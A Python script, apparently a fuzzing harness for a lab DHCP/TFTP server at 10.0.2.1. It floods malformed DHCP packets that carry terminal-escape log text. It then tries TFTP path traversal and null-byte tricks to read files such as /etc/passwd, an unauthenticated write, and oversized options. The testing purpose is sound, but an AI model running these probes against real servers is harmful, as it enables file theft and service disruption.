"""Program: rubbish for the DHCP and TFTP server at 10.0.2.1, from the interface `in`; prints JSON of files got."""

from __future__ import annotations

import json
import random
import socket
import struct
import sys

SERVER = "10.0.2.1"
NAMES = (
    *("../dnsmasq.conf", "../hosts", "../../../etc/passwd", "/etc/passwd", "//etc/passwd", "..\\hosts"),
    *("%2e%2e/hosts", "..%2fhosts", "tftp/../../hosts", "undionly.kpxe/../../hosts", "./../hosts", "", "."),
    *("a" * 500, "undionly.kpxe\0/../../hosts", "\xff\xfe", "undionly.kpxe"),
)


def discover(numbers: random.Random) -> bytes:
    """Return a DHCPDISCOVER that is right up to its options: cut, repeated, nested, wrong in length."""
    mac = bytes.fromhex("5254009900") + numbers.randbytes(1)
    head = struct.pack("!BBBBIHH", 1, 1, 6, 0, numbers.getrandbits(32), 0, 0x8000) + bytes(16)
    head += (
        mac + bytes(10) + bytes(192) + b"\x63\x82\x53\x63\x35\x01" + bytes([numbers.choice((1, 3, 4, 7, 8, 99))])
    )
    text = b"dnsmasq-dhcp: 7 DHCPACK(br0) 10.0.2.15 52:54:00:12:34:56\n\x1b[2J"
    for _ in range(numbers.randrange(12)):
        code = numbers.choice((12, 43, 50, 54, 55, 57, 60, 61, 66, 77, 81, 82, 93, 94, 97, 119, 124, 125, 175))
        data = numbers.choice((numbers.randbytes(numbers.randrange(255)), text, b"PXEClient" * 20))[:255]
        head += bytes([code, numbers.choice((len(data), 255, 0, 1))]) + data
    return head + numbers.choice((b"\xff", b"", b"\x52"))


def dhcp(numbers: random.Random) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        line.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"in")
        line.bind(("", 68))
        for number in range(3000):
            data = discover(numbers) if number % 3 else numbers.randbytes(numbers.randrange(1400))
            for to in ("255.255.255.255", SERVER):
                line.sendto(data, (to, 67))


def tftp(name: str, *, mode: str = "octet", write: bool = False, more: bytes = b"") -> bytes:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.settimeout(1)
        line.sendto(
            struct.pack("!H", 2 if write else 1) + name.encode("latin1") + b"\0" + mode.encode() + b"\0" + more,
            (SERVER, 69),
        )
        try:
            return line.recvfrom(70000)[0]
        except TimeoutError:
            return b""


def main() -> None:
    numbers = random.Random(5)  # noqa: S311
    dhcp(numbers)
    got = {name: tftp(name).hex() for name in NAMES}
    got["written"] = tftp("new", write=True).hex()
    for more in (
        b"blksize\x0099999999\0",
        b"blksize\0-1\0",
        b"tsize\0" + b"9" * 400 + b"\0",
        numbers.randbytes(300),
    ):
        tftp("undionly.kpxe", more=more)
        tftp("undionly.kpxe", mode="netascii" * 30, more=more)
    sys.stdout.write(json.dumps(got))


if __name__ == "__main__":
    main()
